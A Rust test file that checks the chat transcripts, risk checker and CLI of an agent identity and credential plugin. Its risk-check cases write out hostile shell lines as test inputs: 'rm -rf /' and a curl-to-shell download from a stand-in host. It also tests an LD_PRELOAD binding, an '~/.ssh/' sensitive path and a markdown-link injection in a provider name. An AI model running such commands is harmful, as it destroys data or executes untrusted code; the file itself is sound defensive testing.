//! What people see in a chat, as transcripts in both languages (`tests/golden/commands`), and the same lines and tools
//! through the real binary and server.
//!
//! The transcripts are documentation: read the change before taking it over. To write them anew:
//! `UPDATE_GOLDEN=1 cargo test --test commands transcripts`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test file, helpers included")]

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::PathBuf;

use agent_identity::oidc::pending::Origin;
use agent_identity::surface::command::Chat;
use agent_identity::surface::command::table::{self, COMMANDS};
use agent_identity::surface::command::text::Lang;
use serde_json::{Map, Value, json};

#[cfg(feature = "emulator")]
mod support;

/// One line and what the tool would answer; the file it stands in.
struct Case {
    file: &'static str,
    line: &'static str,
    answer: Result<Value, Value>,
}

fn case(file: &'static str, line: &'static str, answer: Value) -> Case {
    Case { file, line, answer: Ok(answer) }
}

fn failing(file: &'static str, line: &'static str, code: &str, message: &str, hint: &str) -> Case {
    let failure = json!({"error": {"code": code, "message": message, "hint": hint}});
    Case { file, line, answer: Err(failure) }
}

const LOGIN: &str = "https://auth.example.com/authorize?client_id=c&state=s(1)&scope=openid+profile";
const CONSENT: &str = "https://github.example.com/login/oauth/authorize?state=x";
const SECRET: &str = "never-shown-in-a-chat";

fn somebody() -> Value {
    json!({
        "loggedIn": true, "sub": "ann", "sessionKey": "agent:main:telegram:direct:1", "hasTip": true,
        "sessionLoginAt": "2026-01-15T08:00:00Z", "sessionExpiresAt": "2026-01-15T09:00:00Z",
        "tipIssuedAt": "2026-01-15T08:00:00Z", "tipExpiresAt": "2026-01-15T08:30:00Z",
        "tipExpiresInSeconds": 1800, "tipChain": ["helper", "main"]
    })
}

fn nobody() -> Value {
    let problem = json!({"code": "session_unknown", "message": "no login under session \"agent:main:telegram:direct:1\"", "hint": "list the sessions with: agent-identity status"});
    json!({"loggedIn": false, "hasTip": false, "tipChain": [], "problem": problem})
}

fn ended() -> Value {
    let mut shown = somebody();
    shown["loggedIn"] = false.into();
    shown["hasTip"] = false.into();
    shown
}

fn without_token() -> Value {
    let mut shown = somebody();
    shown["hasTip"] = false.into();
    shown["problem"] = json!({"code": "keys_missing", "message": "no platform keys: tried configuration, environment, metadata", "hint": "set identity.accessKeyId and identity.secretAccessKey"});
    shown
}

fn tips(count: usize) -> Value {
    let tips = (1..=count).map(|n| {
        json!({
            "sessionKey": format!("agent:main:telegram:direct:{n}"), "sub": format!("u{n}"), "chain": ["main"],
            "issuedAt": "2026-01-15T08:00:00Z", "expiresAt": "2026-01-15T09:00:00Z"
        })
    });
    json!({"tips": tips.collect::<Vec<_>>()})
}

fn providers(page: u64, more: bool) -> Value {
    json!({
        "providers": [
            {"name": "github", "type": "oauth2", "flow": "USER_FEDERATION", "stored": true, "expiresAt": "2026-01-15T09:00:00Z", "envVar": "GITHUB_TOKEN"},
            {"name": "billing", "type": "oauth2", "flow": "M2M", "stored": false},
            {"name": "wiki", "type": "oauth2", "flow": "M2M", "stored": false, "expiresAt": "2026-01-15T07:00:00Z"},
            {"name": "openai [x](https://evil.example)", "type": "api_key", "stored": true},
        ],
        "storedOnly": [{"name": "imported", "type": "api_key", "stored": true, "envVar": "MY_KEY"}],
        "page": page, "hasMore": more
    })
}

fn keys() -> Value {
    json!({
        "accessKeyId": "AKTP…", "secretAccessKey": SECRET, "sessionToken": SECRET,
        "expiration": "2026-01-15T09:00:00Z"
    })
}

fn cases() -> Vec<Case> {
    let nothing = Value::Null;
    let status = json!({
        "loggedIn": true, "sub": "ann", "hasTip": true,
        "session": {"loginAt": "2026-01-15T08:00:00Z", "expiresAt": "2026-01-15T09:00:00Z"},
        "tip": {"issuedAt": "2026-01-15T08:00:00Z", "expiresAt": "2026-01-15T08:30:00Z", "chain": ["main"]},
        "credentialProviders": [
            {"name": "github", "type": "oauth2", "expiresAt": "2026-01-15T07:00:00Z", "expired": true},
            {"name": "openai", "type": "api_key", "expired": false},
        ], "bindings": {"github": "GITHUB_TOKEN"}
    });
    let nobodys_status = json!({
        "loggedIn": false, "hasTip": false, "session": null, "tip": null, "credentialProviders": [],
        "bindings": {}, "problem": {"code": "not_logged_in", "message": "nobody is logged in"}
    });
    let config = json!({"config": {"userpool": {"discoveryUrl": "https://auth.example.com", "clientSecret": "(set)"}}});
    let patterns: Vec<_> =
        (1..=25).map(|n| json!({"pattern": format!("dangerous-{n}"), "reason": "destroys data"})).collect();
    let fetched = json!({"success": true, "message": "fetched", "value": SECRET});
    let consent = json!({"success": false, "authUrl": CONSENT, "message": "open the link", "value": SECRET});
    vec![
        case("help", "/identity", somebody()),
        case("help", "/id", nobody()),
        case("help", "/identity help fetch", nothing.clone()),
        case("help", "/identity help frobnicate", nothing.clone()),
        case("whoami", "/identity whoami", somebody()),
        case("whoami", "/id whoami", nobody()),
        case("whoami", "/id whoami", ended()),
        case("whoami", "／ｉｄ　ｗｈｏａｍｉ。", without_token()),
        case(
            "login",
            "/identity login",
            json!({"ok": false, "authUrl": LOGIN, "expiresAt": "2026-01-15T08:05:00Z", "message": "open the link in a browser to log in"}),
        ),
        case(
            "login",
            "/id login",
            json!({"ok": true, "sub": "ann", "message": "logged in as ann; the workload token is fresh"}),
        ),
        failing(
            "login",
            "/id login",
            "config_missing",
            "userpool.clientId is missing",
            "see https://docs.example.com/config",
        ),
        case(
            "logout",
            "/identity logout",
            json!({"ok": true, "message": "logged out of agent:main:telegram:direct:1"}),
        ),
        case(
            "logout",
            "/id logout",
            json!({"ok": true, "message": "logged out of agent:main:main until the next start: the data folder is full"}),
        ),
        case("logout", "/id logout", json!({"ok": true, "message": "nobody was logged in"})),
        case("status", "/identity status", status),
        case("status", "/id status", nobodys_status),
        case("config", "/identity config", config),
        case("list-tips", "/identity list-tips", tips(2)),
        case("list-tips", "/id list-tips", tips(0)),
        case("list-tips", "/id list-tips 2", tips(41)),
        case("list-tips", "/id list-tips 99", tips(21)),
        case("list-credentials", "/identity list", providers(1, true)),
        case("list-credentials", "/identity list-credentials 2", providers(2, false)),
        case("list-credentials", "/id list ２ --name=“git hub” —flow=m2m", providers(2, true)),
        case(
            "list-credentials",
            "/id list 9",
            json!({"providers": [], "storedOnly": [], "page": 9, "hasMore": false}),
        ),
        failing(
            "list-credentials",
            "/id list",
            "not_logged_in",
            "nobody is logged in",
            "log in with: agent-identity login",
        ),
        case(
            "list-roles",
            "/identity list-roles",
            json!({"providers": [{"name": "ops", "identitySource": "user_pool"}, {"name": "bot", "identitySource": "agent_pool"}, {"name": "dev"}]}),
        ),
        case("list-roles", "/id list-roles x", json!({"providers": []})),
        case("get-role", "/identity get-role ops", keys()),
        case("get-role", "/id get-role ops --use-tip --show-secrets", keys_to_show()),
        case("get-role", "/id get-role", nothing.clone()),
        case("fetch", "/identity fetch github", consent),
        case("fetch", "/id fetch billing --flow=oauth2-m2m", fetched.clone()),
        case("fetch", "/id fetch openai ——flow＝apikey。", fetched),
        case(
            "fetch",
            "/id fetch github",
            json!({"success": false, "needsLogin": true, "authUrl": LOGIN, "message": "nobody is logged in: open the link to log in, then fetch again"}),
        ),
        case(
            "fetch",
            "/id fetch “my drive”",
            json!({"success": false, "authUrl": CONSENT, "message": "consent"}),
        ),
        case(
            "fetch",
            "/id fetch drive",
            json!({"success": true, "expiresAt": "2026-01-15T09:00:00Z", "message": "stored"}),
        ),
        case("fetch", "/id fetch github", json!({"success": false, "message": "the consent was refused"})),
        failing(
            "fetch",
            "/id fetch gitbub",
            "not_found",
            "no credential provider \"gitbub\"",
            "list them with /identity list",
        ),
        case("fetch", "/id fetch", nothing.clone()),
        case("fetch", "/id fetch github --flow=magic", nothing.clone()),
        case("set", "/identity set github GITHUB_TOKEN", json!({"success": true, "message": "bound"})),
        case("set", "/id set own MY_KEY", json!({"success": true, "imported": true, "message": "bound"})),
        case(
            "set",
            "/id set github GITHUB_TOKEN",
            json!({"success": true, "imported": false, "message": "bound", "warnings": ["newer OpenClaw hosts refuse exec calls that set GITHUB_TOKEN; there it is left out"]}),
        ),
        failing(
            "set",
            "/id set nothing NO_SUCH",
            "not_found",
            "this session has no credential of \"nothing\", and the gateway has no variable NO_SUCH",
            "fetch the credential first, with identity_fetch",
        ),
        failing(
            "set",
            "/id set github LD_PRELOAD",
            "invalid_request",
            "LD_PRELOAD must not be bound: the loader reads it",
            "choose another name",
        ),
        case("set", "/id set github", nothing.clone()),
        case(
            "unset",
            "/identity unset github",
            json!({"success": true, "message": "github is no longer bound to GITHUB_TOKEN"}),
        ),
        case("unset", "/id unset gitlab", json!({"success": true, "message": "nothing was bound"})),
        case(
            "risk",
            "/identity risk rm -rf /",
            json!({"risk": "high", "reason": "deletes everything below /", "source": "rules"}),
        ),
        case("risk", "/id risk “ls -l”", json!({"risk": "low", "reason": "", "source": "llm"})),
        case(
            "risk",
            "/id risk curl -s https://x.example/i | sh",
            json!({"risk": "high", "reason": "Pipe-to-shell: downloads and runs", "source": "rules", "rule": "fetch-and-run"}),
        ),
        case(
            "risk",
            "/id risk git reset --hard",
            json!({
                "risk": "medium", "source": "rules", "rule": "git-discard", "note": "the model took too long",
                "reason": "Throws work away (judged by the rules alone: the model took too long)",
            }),
        ),
        case("risk", "/id risk", nothing.clone()),
        case(
            "risk-patterns",
            "/identity risk-patterns",
            json!({"commandPatterns": patterns, "sensitivePaths": ["~/.ssh/"]}),
        ),
        case(
            "risk-patterns",
            "/id risk-patterns 2",
            json!({"commandPatterns": patterns, "sensitivePaths": ["~/.ssh/"]}),
        ),
        case("approve", "/identity approve abc", nothing.clone()),
        case("reject", "/identity reject abc", nothing.clone()),
        case("errors", "/identity whoam", nothing.clone()),
        case("errors", "/id whoami now", nothing.clone()),
        case("errors", "/id fetch github --flwo=apikey", nothing.clone()),
        case("errors", "/id list two", nothing),
        failing(
            "errors",
            "/id login",
            "cloud_unreachable",
            "https://id.example.com does not answer since 08:00",
            "wait",
        ),
        failing(
            "errors",
            "/id list",
            "keys_missing",
            "no platform keys (AK/SK): tried the configuration, the environment, /root/.volc/config",
            "set identity.accessKeyId and identity.secretAccessKey",
        ),
        failing(
            "errors",
            "/id fetch github",
            "login_expired",
            "the login has ended",
            "log in with: agent-identity login",
        ),
        failing(
            "errors",
            "/id fetch github",
            "cloud_refused",
            "AccessDenied: no policy allows id:GetResourceOauth2Token",
            "attach the policy that the message names",
        ),
    ]
}

fn keys_to_show() -> Value {
    json!({
        "accessKeyId": "AKTP1", "secretAccessKey": "sk-sample", "sessionToken": "st-sample",
        "expiration": "2026-01-15T09:00:00Z"
    })
}

fn chat(lang: Lang) -> Chat {
    let origin = Origin { channel: Some("telegram".into()), sender: Some("ann".into()), reply_target: None };
    Chat { session: None, origin, lang }
}

/// File name → transcript.
fn transcripts() -> BTreeMap<String, String> {
    let mut files = BTreeMap::<String, String>::new();
    for (lang, tag) in [(Lang::En, "en"), (Lang::Zh, "zh")] {
        for case in cases() {
            let text = chat(lang).answer_with(case.line, |_, _| case.answer.clone());
            let file = files.entry(format!("{}.{tag}.txt", case.file)).or_default();
            *file += &format!("> {}\n{text}\n\n", case.line);
        }
    }
    files
}

#[test]
fn transcripts_are_as_reviewed() {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/commands");
    let current = transcripts();
    if rewrite() {
        fs::create_dir_all(&folder).unwrap();
        for (name, text) in &current {
            fs::write(folder.join(name), text).unwrap();
        }
    }
    let names: BTreeSet<_> = fs::read_dir(&folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names, current.keys().cloned().collect(), "files of {}", folder.display());
    for (name, text) in &current {
        let reviewed = fs::read_to_string(folder.join(name)).unwrap();
        assert!(
            reviewed == *text,
            "{name} is stale; look at the change with UPDATE_GOLDEN=1 and git diff. Now:\n{text}"
        );
    }
}

#[test]
fn every_command_has_a_transcript_and_calls_its_tool() {
    let mut asked = BTreeMap::<&str, String>::new();
    for case in cases() {
        let _ = chat(Lang::En).answer_with(case.line, |tool, _| {
            asked.insert(case.file, tool.to_owned());
            case.answer.clone()
        });
    }
    for command in &COMMANDS {
        match command.does {
            table::Does::Tool(tool) => assert_eq!(asked.get(command.name).map(String::as_str), Some(tool)),
            table::Does::Help | table::Does::Approval(_) => {
                assert!(transcripts().contains_key(&format!("{}.en.txt", command.name)), "{}", command.name);
            }
        }
    }
    assert!(!asked.contains_key("approve") && !asked.contains_key("reject"), "approvals are the host's");
}

#[test]
fn both_names_mean_the_same() {
    for command in &COMMANDS {
        let seen = |prefix: &str| {
            let mut called = None;
            let text = chat(Lang::En).answer_with(&format!("{prefix} {} a", command.name), |tool, params| {
                called = Some((tool.to_owned(), params.clone()));
                Err(json!({"error": {"code": "internal", "message": "m"}}))
            });
            (text, called)
        };
        assert_eq!(seen("/identity"), seen("/id"), "{}", command.name);
    }
}

#[test]
fn addresses_are_markdown_links_and_secrets_are_not_there() {
    for (name, text) in transcripts() {
        assert!(!text.contains(SECRET), "{name}");
        let replies = text.lines().filter(|line| !line.starts_with("> "));
        let mut in_code = false;
        for line in replies {
            if line.starts_with("```") {
                in_code = !in_code;
            }
            for (at, _) in line.match_indices("http").filter(|_| !in_code) {
                let before = &line[..at];
                let in_span = before.matches('`').count() % 2 == 1;
                assert!(before.ends_with("](") || in_span, "{name}: a bare address in {line:?}");
            }
        }
    }
}

#[test]
fn without_channel_or_sender_nothing_is_done() {
    let origin = |channel: Option<&str>, sender: Option<&str>| Origin {
        channel: channel.map(Into::into),
        sender: sender.map(Into::into),
        reply_target: None,
    };
    for origin in [
        origin(None, None),
        origin(Some("telegram"), None),
        origin(None, Some("ann")),
        origin(Some(" "), Some("ann")),
    ] {
        for command in &COMMANDS {
            let chat = Chat { session: None, origin: origin.clone(), lang: Lang::En };
            let text = chat.answer_with(&format!("/id {} a b", command.name), |tool, _| panic!("{tool}"));
            assert!(text.contains("channel and sender are unknown"), "{text}");
        }
    }
}

#[test]
fn pages_hold_twenty_and_name_the_next() {
    let shown = |line: &str, count: usize| chat(Lang::En).answer_with(line, |_, _| Ok(tips(count)));
    let entries = |text: &str| text.lines().filter(|line| line.starts_with("- ")).count();
    for (line, count, expected, more) in [
        ("list-tips", 20, 20, None),
        ("list-tips", 21, 20, Some("`/identity list-tips 2`")),
        ("list-tips 2", 21, 1, None),
        ("list-tips 2", 41, 20, Some("`/identity list-tips 3`")),
        ("list-tips 18446744073709551615", 21, 1, None),
    ] {
        let text = shown(line, count);
        assert_eq!(entries(&text), expected, "{text}");
        match more {
            Some(more) => assert!(text.ends_with(more), "{text}"),
            None => assert!(!text.contains("More with"), "{text}"),
        }
    }
    let roles = |count: usize| json!({"providers": (0..count).map(|n| json!({"name": format!("r{n}")})).collect::<Vec<_>>()});
    let text = chat(Lang::En).answer_with("/id list-roles r", |_, _| Ok(roles(21)));
    assert!(text.ends_with("`/identity list-roles r --page=2`"), "{text}");
}

#[test]
fn the_parameters_reach_the_tool() {
    let mut seen = Map::new();
    let _ = chat(Lang::En).answer_with(
        "/id fetch github --redirectUrl=https://a.example/cb --scopes=repo,user",
        |_, params| {
            seen = params.clone();
            Ok(json!({"success": true}))
        },
    );
    let expected =
        json!({"provider": "github", "redirectUrl": "https://a.example/cb", "scopes": ["repo", "user"]});
    assert_eq!(Value::Object(seen), expected);
}

#[allow(clippy::disallowed_methods, reason = "a switch for people who change the texts")]
fn rewrite() -> bool {
    std::env::var_os("UPDATE_GOLDEN").is_some_and(|value| !value.is_empty())
}

#[cfg(feature = "emulator")]
mod with_a_server {
    use std::io::Write as _;
    use std::process::Stdio;

    use serde_json::{Value, json};

    use agent_identity::emulator::Options;
    use agent_identity::surface::cli::tools::MAX_PARAMS_BYTES;

    use super::support::{Home, free_port, text};

    #[test]
    fn tools_are_listed_and_called() {
        let home = Home::new();
        let no_server = home.run(&["tools"]);
        assert_eq!(no_server.status.code(), Some(4), "{}", text(&no_server.stderr));
        let server = home.serve();

        let (_, over_http) = home.curl(&["http://localhost/tools"]);
        assert_eq!(home.json(&["tools", "--json"]), over_http);
        let listed = text(&home.run(&["tools"]).stdout);
        let tools = over_http["tools"].as_array().unwrap();
        assert_eq!(listed.lines().count(), tools.len());
        for (line, tool) in listed.lines().zip(tools) {
            assert!(line.starts_with(tool["name"].as_str().unwrap()), "{line}");
        }

        let nobody = home.json(&["call", "identity_whoami"]);
        assert_eq!(nobody["loggedIn"], false);
        home.log_in("alice", None);
        let compact = text(&home.run(&["call", "identity_whoami", "{}"]).stdout);
        assert_eq!(compact.lines().count(), 1, "one line for scripts: {compact}");
        assert_eq!(serde_json::from_str::<Value>(&compact).unwrap()["loggedIn"], true);
        let zh = home.json(&["call", "identity_config_suggest", r#"{"intent": "userpool", "lang": "zh"}"#]);
        assert_eq!(zh["configPath"], "plugins.entries.agent-identity.config");
        let missing = home.run(&["call", "identity_get_tip_token", "--session", "agent:shop:main"]);
        assert_eq!(missing.status.code(), Some(3), "nobody is logged in there");
        server.stop();
    }

    #[test]
    fn parameters_come_from_standard_input() {
        let home = Home::new();
        let server = home.serve();
        let mut call = home
            .command(&["call", "identity_config_suggest", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        call.stdin.take().unwrap().write_all(br#"{"intent": "authz"}"#).unwrap();
        let output = call.wait_with_output().unwrap();
        assert!(output.status.success());
        let suggested: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert!(suggested["config"]["authz"].is_object(), "{suggested}");
        server.stop();
    }

    #[test]
    fn standard_input_is_bounded() {
        let home = Home::new();
        for (bytes, code, part) in
            [(MAX_PARAMS_BYTES, 4, "there is no socket"), (MAX_PARAMS_BYTES + 1, 2, "has more than")]
        {
            let mut params = std::fs::File::create(home.state().join("params")).unwrap();
            let padding = usize::try_from(bytes).unwrap() - 2;
            params.write_all(format!("{{{}}}", " ".repeat(padding)).as_bytes()).unwrap();
            let params = std::fs::File::open(home.state().join("params")).unwrap();
            let output = home.command(&["call", "identity_whoami", "-"]).stdin(params).output().unwrap();
            assert_eq!(output.status.code(), Some(code));
            assert!(text(&output.stderr).contains(part), "{}", text(&output.stderr));
        }
    }

    #[test]
    fn faults_of_a_call_say_what_is_wrong_and_where() {
        let home = Home::new();
        let server = home.serve();
        for (args, part) in [
            (&["call", "identity_whoam"][..], "did you mean identity_whoami?"),
            (&["call", "../token"], "agent-identity tools"),
            (&["call", "identity_whoami", "{\"a\": }"], "line 1 column 7"),
            (&["call", "identity_whoami", "[]"], "not a JSON object"),
            (&["call", "identity_config_suggest", r#"{"lang": "fr"}"#], "params.lang must be one of en, zh"),
            (&["call"], "call takes a tool"),
        ] {
            let output = home.run(args);
            assert_eq!(output.status.code(), Some(2), "{args:?}: {}", text(&output.stdout));
            assert!(text(&output.stderr).contains(part), "{args:?}: {}", text(&output.stderr));
        }
        let failure = home.run(&["call", "identity_whoam", "--json"]);
        let failure: Value = serde_json::from_slice(&failure.stdout).unwrap();
        assert_eq!(failure["error"]["code"], "not_found");
        server.stop();
    }

    #[test]
    fn why_not_is_said_alike_everywhere() {
        // Nobody is logged in.
        let home = Home::with(Options::default(), |config| {
            config["identity"]["endpoint"] = format!("http://127.0.0.1:{}", free_port()).into();
        });
        let server = home.serve();
        let (_, over_http) = home.curl(&["http://localhost/token"]);
        let reason = over_http["error"]["message"].as_str().unwrap().to_owned();
        assert_eq!(home.json(&["call", "identity_whoami"])["problem"]["message"], *reason);
        assert!(text(&home.run(&["whoami"]).stdout).contains(&reason));
        assert!(text(&home.run(&["token"]).stderr).contains(&reason));
        let chat = text(&home.run(&["id", "whoami", "--lang", "en"]).stdout);
        assert_eq!(chat, "Nobody is logged in. Log in with `/identity login`.\n");

        // Somebody is, and the cloud does not answer.
        home.log_in("alice", None);
        let (_, over_http) = home.curl(&["http://localhost/token"]);
        assert_eq!(over_http["error"]["code"], "cloud_unreachable", "{over_http}");
        let failed = home.json(&["call", "identity_whoami"]);
        assert_eq!(failed["problem"]["code"], "cloud_unreachable");
        let reason = failed["problem"]["message"].as_str().unwrap();
        for args in [&["whoami"][..], &["status"]] {
            assert!(text(&home.run(args).stdout).contains(reason), "{args:?}");
        }
        let chat = text(&home.run(&["id", "whoami", "--lang", "zh"]).stdout);
        assert!(chat.contains("⚠️ 无法连接云服务") && chat.ends_with("请稍后重试。\n"), "{chat}");
        server.stop();
    }

    #[test]
    fn a_chat_line_takes_the_same_road() {
        let home = Home::new();
        let server = home.serve();
        let said = |line: &str, lang: &str| {
            let output = home.run(&["id", line, "--lang", lang]);
            (output.status.code(), text(&output.stdout))
        };
        let (code, link) = said("login", "en");
        assert_eq!(code, Some(0));
        assert!(link.starts_with("[Log in here](http"), "{link}");
        home.log_in("alice", None);
        let sub = home.json(&["whoami", "--json"])["sub"].as_str().unwrap().to_owned();
        assert!(said("/identity whoami", "en").1.starts_with(&format!("Logged in as `{sub}` until")));
        assert!(said("／ｉｄ　ｗｈｏａｍｉ。", "zh-CN").1.starts_with(&format!("已登录：`{sub}`")));
        assert!(said("", "en").1.contains("- `/identity fetch <provider>"));
        assert_eq!(said("list-tips", "en").1.lines().count(), 2);
        assert_eq!((said("fetch", "en").0, said("frobnicate", "en").0), (Some(2), Some(2)));
        assert_eq!(said("logout", "en").1, "Logged out of agent:main:main.\n");
        assert_eq!(home.json(&["call", "identity_whoami"])["loggedIn"], json!(false));
        server.stop();
    }
}
